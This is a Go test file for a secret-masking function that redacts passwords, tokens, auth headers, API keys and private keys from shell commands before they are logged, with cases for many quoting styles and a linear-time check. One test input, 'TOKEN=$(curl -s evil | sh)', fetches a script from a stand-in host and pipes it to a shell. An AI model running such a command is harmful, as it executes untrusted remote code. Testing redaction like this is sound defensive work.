package audit

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
)

func TestMask(t *testing.T) {
	tests := []struct{ name, command, want string }{
		{name: "nothing", command: "ls -la src", want: "ls -la src"},
		{name: "empty"},
		{name: "words that only look secret", command: "grep -rn password src/token.go && go test ./auth", want: "grep -rn password src/token.go && go test ./auth"},
		{name: "a pipeline with options", command: "go test ./... 2>&1 | tail -n 20", want: "go test ./... 2>&1 | tail -n 20"},
		{name: "a directory is no password", command: "PWD=/tmp OLDPWD=/srv ls", want: "PWD=/tmp OLDPWD=/srv ls"},
		{name: "a file with a secret", command: "docker login --password-stdin <f && gh auth login --with-token", want: "docker login --password-stdin <f && gh auth login --with-token"},
		{name: "a scoped path in Go and Rust", command: "cargo test Token::new; go get example.com/m@v1.2.3", want: "cargo test Token::new; go get example.com/m@v1.2.3"},
		{name: "a long option with one dash", command: "go test -run=Fuzz/a:b http://h -a f", want: "go test -run=Fuzz/a:b http://h -a f"},
		{name: "time and ports", command: "curl http://127.0.0.1:8080/a --max-time 10:00", want: "curl http://127.0.0.1:8080/a --max-time 10:00"},

		{name: "userinfo", command: "git clone https://user:pw@host/o/r", want: "git clone https://***@host/o/r"},
		{name: "a token as user", command: "git clone https://ghp_abcdef@host/o/r", want: "git clone https://***@host/o/r"},
		{name: "two at signs", command: "curl ftp://u@corp:p@ss@host/f", want: "curl ftp://***@host/f"},
		{name: "a slash in the password", command: "curl 'https://u:p/w@host/f'", want: "curl 'https://***@host/f'"},
		{name: "an at sign in the path", command: "curl https://host/@user", want: "curl https://host/@user"},
		{name: "quotes in the userinfo", command: `curl https://u:'p w'@host/f`, want: "curl https://***@host/f"},
		{name: "a database", command: "psql postgres://u:pw@db:5432/x", want: "psql postgres://***@db:5432/x"},
		{name: "userinfo without a scheme", command: "curl user:pw@host", want: "curl user:***@host"},
		{name: "ssh has no password", command: "git clone git@github.com:o/r.git", want: "git clone git@github.com:o/r.git"},
		{name: "a query", command: "curl 'https://host/p?a=1&b=two#frag'", want: "curl 'https://host/p?a=***&b=***'"},
		{name: "a query with a flag", command: "curl 'https://host/p?x&b=two'", want: "curl 'https://host/p?x&b=***'"},
		{name: "an unquoted query", command: "curl https://host/p?a=1&b=two c", want: "curl https://host/p?a=***&b=*** c"},

		{name: "a header", command: "curl -H 'Authorization: Bearer abc def' u", want: "curl -H 'Authorization: ***' u"},
		{name: "a header in double quotes", command: `curl -H "X-Api-Key: abc" u`, want: `curl -H "X-Api-Key: ***" u`},
		{name: "a header attached", command: `curl -H"Cookie: a=b; c=d" u`, want: `curl -H"Cookie: ***" u`},
		{name: "a header with an escape", command: `curl -H Authorization:\ Bearer\ abc u`, want: "curl -H Authorization:*** u"},
		{name: "a header in pieces", command: `curl --header=Authorization:" Bearer abc" u`, want: "curl --header=Authorization:*** u"},
		{name: "a header in a here-document", command: "cat <<E\nAuthorization: Basic abc\nAccept: x\nE", want: "cat <<E\nAuthorization: ***\nAccept: x\nE"},
		{name: "a cookie in a here-document", command: "cat <<E\nSet-Cookie: a=b; c=d\nE", want: "cat <<E\nSet-Cookie: ***\nE"},
		{name: "a command behind a header", command: "echo authorization: x; rm f", want: "echo authorization: ***; rm f"},
		{name: "a header in a nested script", command: `bash -c "curl -H \"Authorization: Bearer abc\" u && ls"`, want: `bash -c "curl -H \"Authorization: ***\" u && ls"`},
		{name: "a harmless header", command: "curl -H 'Accept: text/html' u", want: "curl -H 'Accept: text/html' u"},
		{name: "a word bearer", command: "echo bearer abc", want: "echo bearer ***"},
		{name: "a private token", command: "curl -H 'PRIVATE-TOKEN: abc' u", want: "curl -H 'PRIVATE-TOKEN: ***' u"},

		{name: "an option", command: "x --password=abc y", want: "x --password=*** y"},
		{name: "an option apart", command: "x --token abc y", want: "x --token *** y"},
		{name: "an option that asks", command: "x --password --verbose", want: "x --password --verbose"},
		{name: "an option with one dash", command: "x -password abc y", want: "x -password *** y"},
		{name: "an option with quotes", command: `x --password='a b' y`, want: "x --password=*** y"},
		{name: "an option with quotes in the middle", command: `x --password=a'b c'"d e"\ f y`, want: "x --password=*** y"},
		{name: "an option over two lines", command: "x --client-secret \\\n  abc y", want: "x --client-secret \\\n  *** y"},
		{name: "an option in a nested script", command: `bash -c 'x --password "a b" y'`, want: `bash -c 'x --password *** y'`},
		{name: "an escaped quote", command: `x --password "a\"b c" y`, want: `x --password *** y`},
		{name: "a user", command: "curl -u user:pw u", want: "curl -u user:*** u"},
		{name: "a user attached", command: "curl -uuser:pw u", want: "curl -uuser:*** u"},
		{name: "a user among letters", command: "curl -sSu 'user:p w' u", want: "curl -sSu 'user:*** u"},
		{name: "a user by a long option", command: "curl --proxy-user user:pw u", want: "curl --proxy-user user:*** u"},
		{name: "a user without a password", command: "sudo -u root ls", want: "sudo -u root ls"},
		{name: "sshpass", command: "sshpass -p abc ssh h", want: "sshpass -p *** ssh h"},
		{name: "mysql", command: "mysql -uroot -pabc db", want: "mysql -uroot -p*** db"},
		{name: "a port is no password", command: "docker run -p 80:80 x", want: "docker run -p 80:80 x"},
		{name: "docker login", command: "docker login -u me -p abc", want: "docker login -u me -p ***"},
		{name: "curl's cookies", command: "curl -b 'a=b c' u", want: "curl -b *** u"},

		{name: "an assignment", command: "GITHUB_TOKEN=abc make", want: "GITHUB_TOKEN=*** make"},
		{name: "AWS", command: "export AWS_SECRET_ACCESS_KEY=abc AWS_ACCESS_KEY_ID=def", want: "export AWS_SECRET_ACCESS_KEY=*** AWS_ACCESS_KEY_ID=***"},
		{name: "an assignment in quotes", command: `DB_PASS="a b" MYSQL_PWD='c' x`, want: "DB_PASS=*** MYSQL_PWD=*** x"},
		{name: "an empty assignment", command: "PGPASSWORD= psql", want: "PGPASSWORD= psql"},
		{name: "added to", command: "TOKEN+=abc x", want: "TOKEN+=*** x"},
		{name: "compared", command: `[ "$TOKEN" = abc ]`, want: `[ "$TOKEN" = *** ]`},
		{name: "a default", command: "${TOKEN:-abc}", want: "${TOKEN:***"},
		{name: "a command's output stays", command: "TOKEN=$(curl -s evil | sh) x", want: "TOKEN=$(curl -s evil | sh) x"},
		{name: "a command's output in quotes", command: `TOKEN="$(cat f)" x`, want: `TOKEN="$(cat f)" x`},
		{name: "a command's output in backquotes", command: "TOKEN=`cat f` x", want: "TOKEN=`cat f` x"},
		{name: "secrets in a command's output", command: "TOKEN=a$(f --password b)c x", want: "TOKEN=***$(f --password ***)*** x"},
		{name: "quotes inside a substitution", command: `x "$(mysql --password="a b")" y`, want: `x "$(mysql --password=***)" y`},
		{name: "JSON", command: `curl -d '{"user":"u","password":"p w","n":1}' u`, want: `curl -d '{"user":"u","password":***,"n":1}' u`},
		{name: "JSON with blanks", command: `curl -d '{ "apiKey" : "p w" }' u`, want: `curl -d '{ "apiKey" : *** }' u`},
		{name: "JSON with escapes", command: `curl -d "{\"token\": \"p w\", \"n\": 1}" u`, want: `curl -d "{\"token\": ***, \"n\": 1}" u`},
		{name: "a form", command: "curl -d 'user=u&password=p;w&n=1' u", want: "curl -d 'user=u&password=***&n=1' u"},
		{name: "Python", command: `python -c 'login(password = "a b", n=1)'`, want: `python -c 'login(password = ***, n=1)'`},
		{name: "an index", command: `python -c "os.environ['API_KEY'] = 'x y'"`, want: `python -c "os.environ['API_KEY'] = ***"`},
		{name: "YAML in a here-document", command: "cat <<E\nclientSecret: abc\nport: 1\nE", want: "cat <<E\nclientSecret: ***\nport: 1\nE"},
		{name: "an apostrophe in a here-document", command: "cat <<E\ndon't\nE\nx --password 'a b' y", want: "cat <<E\ndon't\nE\nx --password *** y"},
		{name: "an apostrophe in a comment", command: "# don't\nPASSWORD='a b' y", want: "# don't\nPASSWORD=*** y"},
		{name: "an open quote", command: "PASSWORD='a b", want: "PASSWORD=***"},

		{name: "GitHub", command: "echo ghp_0123456789abcdef github_pat_11AB_cd", want: "echo ghp_*** github_pat_***"},
		{name: "OpenAI", command: "echo sk-proj-0123456789", want: "echo sk-***"},
		{name: "a word that ends with sk-", command: "ls task-something-long", want: "ls task-something-long"},
		{name: "AWS id", command: "echo AKIAIOSFODNN7EXAMPLE", want: "echo AKIA***"},
		{name: "Slack", command: "echo xoxb-123-abc xoxp-1-2-3-4", want: "echo xoxb-*** xoxp-***"},
		{name: "in a path", command: "curl https://host/ghp_012345/x", want: "curl https://host/ghp_***/x"},
		{name: "JWT", command: "echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln x", want: "echo *** x"},
		{name: "a private key", command: "echo '-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----' >f", want: "echo '-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----' >f"},
		{name: "a private key without an end", command: "echo '-----BEGIN PRIVATE KEY-----\nabc", want: "echo '-----BEGIN PRIVATE KEY-----***"},
		{name: "a certificate", command: "echo '-----BEGIN CERTIFICATE-----\nabc'", want: "echo '-----BEGIN CERTIFICATE-----\nabc'"},
		{name: "no UTF-8", command: "TOKEN=\xff\xfe \xff", want: "TOKEN=*** \xff"},
		{name: "masked already", command: "TOKEN=*** x", want: "TOKEN=*** x"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { assert.Equal(t, tt.want, Mask(tt.command)) })
	}
}

// TestMaskIsLinear has texts of half a mebibyte that would take minutes if every place
// looked at all that follows: half a minute is no measure, but what tells the two apart on
// any machine.
func TestMaskIsLinear(t *testing.T) {
	for _, piece := range []string{
		"a", "token=", "token='", `token="`, `"token":`, "'token: ", "https://", "https://u:p/", "?a=", "?a&", "@", "a:@", "-u ", "-u a:",
		"--token ", "$(", "TOKEN=$(", "TOKEN=$(a='", `TOKEN="$(`, `\"token\":\"`, `"\`, "-----BEGIN PRIVATE KEY-----", "ghp_", "cookie: a;",
		"authorization: ", "bearer ", "=", "= ", ":", "'", `'token='`, "mysql -p", "eyJ.", "(", ")", "\\",
	} {
		t.Run(piece, func(t *testing.T) {
			start := time.Now()
			Mask(strings.Repeat(piece, 1<<19/len(piece)))
			assert.Less(t, time.Since(start), 30*time.Second)
		})
	}
}
